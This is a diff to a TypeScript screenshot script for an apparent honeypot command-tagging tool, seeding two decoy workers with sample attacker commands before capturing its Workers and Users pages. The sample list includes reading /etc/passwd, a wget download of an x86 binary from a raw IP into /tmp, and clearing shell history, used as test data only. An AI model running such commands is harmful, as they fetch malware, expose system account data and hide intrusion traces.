@@ -29,6 +29,13 @@ async function main(): Promise<void> {
     ["R0020", ["clipped", "--confidence-max", "0.5", "--reason", "tuning"]],
   ];
   for (const [id, args] of states) await ttp(db.url, ["state", "set", id, ...args, "--by", "ana"]);
+  // Two real workers tag a small batch each and report (then stop) for the Workers page.
+  const commands = ["uname -a", "whoami", "cat /etc/passwd", "wget http://45.95.147.236/x86 -O /tmp/x86", "history -c", "ls -la /tmp", "crontab -l", "nproc"];
+  const outDir = mkdtempSync(path.join(os.tmpdir(), "ttp-shots-tags-"));
+  for (const [w, n] of [["decoy-eu-1", 900], ["decoy-us-2", 400]] as const) {
+    const events = Array.from({ length: n }, (_, i) => JSON.stringify({ source_kind: "command", source_id: `${w}_${i}`, payload: { command_text: commands[(i * 7) % commands.length] } })).join("\n");
+    await ttp(db.url, ["worker", "--role", "worker", "--id", w, "--report-interval", "100ms", "--out", path.join(outDir, `${w}.jsonl`)], `${events}\n`);
+  }
   const server = await startServer({ databaseUrl: db.url, logFile: path.join(os.tmpdir(), "ttp-shots-server.log") });
   const browser = await chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS });
   try {
@@ -77,6 +84,13 @@ async function main(): Promise<void> {
     await history.getByRole("region", { name: "Diff revision 1 → current", exact: true }).waitFor();
     await history.scrollIntoViewIfNeeded();
     await page.screenshot({ path: path.join(OUT, "history.png") });
+    await page.goto(`${server.baseURL}/workers`);
+    await page.getByRole("table", { name: "Workers" }).waitFor();
+    await page.screenshot({ path: path.join(OUT, "workers.png") });
+
+    await page.goto(`${server.baseURL}/users`);
+    await page.getByRole("table", { name: "Users" }).waitFor();
+    await page.screenshot({ path: path.join(OUT, "users.png") });
     console.log(`screenshots written to ${path.relative(process.cwd(), OUT)}`);
   } finally {
     await browser.close();
